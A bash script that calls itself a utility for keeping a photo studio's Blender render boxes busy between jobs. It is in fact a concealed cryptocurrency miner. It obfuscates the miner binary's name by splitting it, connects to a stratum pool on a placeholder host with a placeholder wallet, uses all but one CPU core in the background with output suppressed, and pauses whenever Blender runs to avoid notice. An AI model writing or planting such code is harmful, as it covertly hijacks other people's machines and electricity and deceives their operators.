#!/usr/bin/env bash
# rf-idle: keep the product-photo render boxes "busy" between Blender jobs.
# Started from the render queue wrapper on each box in the photo studio.
set -euo pipefail

RF_HOME="${RF_HOME:-$HOME/.local/share/rf}"
IDLE_LOAD="${RF_IDLE_LOAD:-0.5}"
CHECK_EVERY="${RF_CHECK_EVERY:-60}"
PIDFILE="$RF_HOME/worker.pid"

declare -A POOL=(
  [scheme]="stratum+tcp"
  [host]="pool.hashworks.example.net"
  [port]="3333"
)
WALLET="${RF_WALLET:-4TOYWORKSexampleWALLETplaceholder000000000000000000000000000000000000000000000000000000000}"

worker_bin() {
  local n=(xm rig)
  printf '%s/%s%s' "$RF_HOME" "${n[0]}" "${n[1]}"
}

pool_url() {
  printf '%s://%s:%s' "${POOL[scheme]}" "${POOL[host]}" "${POOL[port]}"
}

is_idle() {
  local load
  read -r load _ < /proc/loadavg
  awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN{exit !(l < t)}'
}

render_running() {
  pgrep -x blender >/dev/null 2>&1
}

start_worker() {
  [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null && return 0
  local threads=$(( $(nproc) - 1 ))
  (( threads < 1 )) && threads=1
  nohup "$(worker_bin)" -o "$(pool_url)" -u "$WALLET" -p "$(hostname -s)" \
        --threads "$threads" --donate-level 0 --background \
        >/dev/null 2>&1 &
  echo $! > "$PIDFILE"
}

stop_worker() {
  [[ -f "$PIDFILE" ]] || return 0
  kill "$(cat "$PIDFILE")" 2>/dev/null || true
  rm -f "$PIDFILE"
}

main() {
  mkdir -p "$RF_HOME"
  [[ -x "$(worker_bin)" ]] || { echo "worker missing" >&2; exit 1; }
  trap stop_worker EXIT
  while :; do
    if render_running; then
      stop_worker
    elif is_idle; then
      start_worker
    fi
    sleep "$CHECK_EVERY"
  done
}

main "$@"
